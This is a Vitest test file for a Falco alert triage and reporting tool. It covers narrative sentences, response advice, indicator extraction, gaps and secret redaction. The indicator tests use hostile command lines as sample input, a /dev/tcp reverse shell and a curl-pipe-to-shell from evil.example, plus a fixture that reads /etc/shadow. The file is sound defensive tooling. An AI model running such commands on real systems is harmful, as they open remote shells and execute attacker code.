// The report model: what is said first, what is worth searching for, what is missing, what is replaced.

import { describe, expect, it } from 'vitest';
import { readAlertText } from '../src/alerts/index.ts';
import { buildReport } from '../src/report/build/build.ts';
import { doNow } from '../src/report/build/do-now.ts';
import { gaps, questions } from '../src/report/build/gaps.ts';
import { indicators } from '../src/report/build/indicators.ts';
import { whatHappened } from '../src/report/build/what-happened.ts';
import { plain } from '../src/report/template.ts';
import type { Finding, Triage, Verdict } from '../src/triage/index.ts';
import { fixtureReport } from './support/report-fixture.ts';

const fixture = fixtureReport().incidents[0]!;

/** The fixture's triage with other fields in its one alert. */
function withFields(fields: Record<string, unknown>, change: Partial<Finding> = {}): Triage {
  const record = { rule: 'R', output: 'printed', priority: 'Warning', output_fields: fields };
  const { alerts } = readAlertText(JSON.stringify(record));
  const finding: Finding = { ...fixture.triage.incident.findings[0]!, count: 1, samples: alerts, ...change };
  return {
    ...fixture.triage,
    behaviours: [],
    benign: [],
    incident: { ...fixture.triage.incident, findings: [finding] },
  };
}

const story = (triage: Triage) => whatHappened(triage).map(plain);

describe('what happened', () => {
  it('says who ran what where, what that is, and how often', () => {
    expect(story(fixture.triage)).toEqual([
      'User root ran bash -c chcon -t modules_object_t "/root/.falco/7.3.0+driver/x86_64/falco_ubuntu-generic_5.4.0-198-generic_218.ko" in container 185304d1bba4, on k8s-master-01.',
      "It amounts to: shell in a container; it would fit Falco's driver loader.",
      'Falco raised 4,120 alerts within 42 s from 2026-11-24 03:18:20.461 UTC.',
    ]);
  });

  it('names the file or connection of the event, and the parent', () => {
    const triage = withFields(
      { 'proc.cmdline': 'cat x', 'proc.pname': 'sshd', 'evt.type': 'openat', 'fd.name': '/etc/shadow' },
      { workload: { kind: 'host', node: 'n1' } },
    );
    expect(story(triage)).toEqual([
      'cat x ran, started by sshd, on the host n1; the event was openat on /etc/shadow.',
    ]);
  });

  it('tells of an audit event', () => {
    const triage = withFields({
      'ka.user.name': 'ana',
      'ka.verb': 'create',
      'ka.target.resource': 'pods/exec',
      'ka.target.name': 'web-0',
      'ka.target.namespace': 'shop',
    });
    expect(story(triage)).toEqual(['ana called create on pods/exec web-0 in namespace shop.']);
  });

  it('says so when the alert has no field to tell from', () => {
    expect(story(withFields({}))[0]).toBe(
      'The alert has no field that says what ran; Falco printed printed.',
    );
  });

  it('every sentence names fields, and every value is kept apart', () => {
    for (const sentence of whatHappened(fixture.triage)) {
      expect(sentence.fields.length).toBeGreaterThan(0);
      expect(sentence.text).not.toContain('chcon');
    }
  });
});

describe('the one thing to do now', () => {
  const verdict = (change: Partial<Verdict>): Triage => ({
    ...fixture.triage,
    verdict: { ...fixture.triage.verdict, ...change },
  });
  const { decides: _, ...open } = fixture.triage.verdict;

  it('keeps evidence first where it looks like an attack', () => {
    const now = doNow(verdict({ word: 'malicious' }), fixture.mitigations);
    expect(plain(now)).toContain('Keep the evidence of container 185304d1bba4, before');
    expect(now.command).toBe('crictl logs 185304d1bba4');
  });

  it('never offers a destructive or refused step', () => {
    const only = fixture.mitigations.filter((one) => one.destructive || one.status === 'refused');
    expect(
      doNow({ ...fixture.triage, verdict: { ...open, word: 'malicious' } }, only).command,
    ).toBeUndefined();
  });

  it('asks the deciding question where it is open', () => {
    const now = doNow(fixture.triage, fixture.mitigations);
    expect(now.text).toMatch(/^Answer the one question that settles it: /);
    expect(now.command).toContain('crictl inspect');
  });

  it('is calm where it is benign', () => {
    expect(doNow({ ...fixture.triage, verdict: { ...open, word: 'benign' } }, []).text).toMatch(/^Nothing/);
    expect(doNow(verdict({ word: 'likely-benign' }), []).text).toMatch(/^Nothing urgent. To be sure: /);
  });
});

describe('indicators', () => {
  const values = (fields: Record<string, unknown>) =>
    indicators(withFields(fields)).map((item) => `${item.kind} ${item.value}`);

  it.each([
    ['bash -i >& /dev/tcp/203.0.113.45/4444 0>&1', ['ip 203.0.113.45']],
    ['curl -s https://evil.example/x.sh|sh', ['url https://evil.example/x.sh', 'domain evil.example']],
    ['curl http://[2001:db8::1]:80/x', ['url http://[2001:db8::1]:80/x', 'ip 2001:db8::1']],
    ['ping 127.0.0.1 1.2.3 1.2.3.4.5 999.1.1.1', []],
    ['cat version-1.2.3.4', []],
  ])('%s', (cmdline, expected) => {
    expect(values({ 'proc.cmdline': cmdline })).toEqual(expected);
  });

  it('takes the far end, dropped files, images, digests and people', () => {
    expect(
      values({
        'fd.name': '10.0.0.1:5555->203.0.113.45:4444',
        'proc.exepath': '/usr/bin/x',
        'proc.is_exe_upper_layer': true,
        'container.image.repository': 'docker.io/library/nginx',
        'container.image.tag': '1.27',
        'container.image.digest': 'sha256:aa',
        'user.name': 'alice',
      }),
    ).toEqual([
      'ip 203.0.113.45',
      'file /usr/bin/x',
      'hash sha256:aa',
      'image docker.io/library/nginx:1.27',
      'user alice',
    ]);
  });

  it('stays bounded on a long command line', () => {
    const cmdline = Array.from({ length: 5000 }, (_, i) => `http://h${i}.example/`).join(' ');
    expect(values({ 'proc.cmdline': cmdline })).toHaveLength(24);
  });
});

describe('gaps and questions', () => {
  it('names missing fields, open behaviours and the blind spots of the time', () => {
    const texts = gaps(fixture.triage, fixtureReport().health).map(plain);
    expect(texts[0]).toBe(
      'container.image.repository is not shown: it names the image that ran the command.',
    );
    expect(texts).toContain('Not ruled out: Kernel module loaded (it needs proc.pexepath).');
    expect(texts.some((text) => text.startsWith('Falco lost events within five minutes'))).toBe(true);
    expect(gaps(fixture.triage, []).map(plain).join()).not.toContain('lost events');
  });

  it('asks each question once, the deciding one first', () => {
    expect(questions(fixture.triage).map((item) => item.text)).toEqual([
      fixture.triage.verdict.decides?.text,
    ]);
  });
});

describe('the whole report', () => {
  const input = {
    version: '0',
    attackVersion: '19',
    input: { names: ['a'], read: 1, accepted: 1, rejected: 0 },
    health: [],
    diagnostics: [],
  };

  it('puts the worst verdict first, whatever the order of the input', () => {
    const words = ['benign', 'malicious', 'undetermined', 'likely-benign', 'likely-malicious'] as const;
    const incidents = words.map((word) => ({
      triage: {
        ...fixture.triage,
        incident: { ...fixture.triage.incident, id: word },
        verdict: { ...fixture.triage.verdict, word },
      },
      mitigations: [],
    }));
    const order = (list: typeof incidents) =>
      buildReport({ ...input, incidents: list }).incidents.map((one) => one.triage.verdict.word);
    expect(order(incidents)).toEqual(order([...incidents].reverse()));
    expect(order(incidents)).toEqual([
      'malicious',
      'likely-malicious',
      'undetermined',
      'likely-benign',
      'benign',
    ]);
  });

  it('replaces secrets everywhere and says where they stood', () => {
    const triage = withFields({ 'proc.cmdline': 'mysql --password=hunter2secret db', 'proc.name': 'mysql' });
    const fact = { ...fixture.triage.facts[0]!, values: ['mysql', 'mysql --password=hunter2secret db'] };
    const report = buildReport({
      ...input,
      incidents: [{ triage: { ...triage, facts: [fact] }, mitigations: fixture.mitigations }],
    });
    const [incident] = report.incidents;
    const seen: unknown[] = [];
    JSON.stringify(report, (_key, value: unknown) => {
      if (typeof value === 'bigint') return String(value);
      if (value instanceof Map) return [...value];
      seen.push(value);
      return value;
    });
    expect(seen.filter((value) => typeof value === 'string' && value.includes('hunter2secret'))).toEqual([]);
    expect(incident?.redactions).toContainEqual({ kind: 'password', field: 'proc.cmdline', count: 1 });
    expect(incident?.records[0]?.sha256).toMatch(/^[0-9a-f]{64}$/);
  });
});
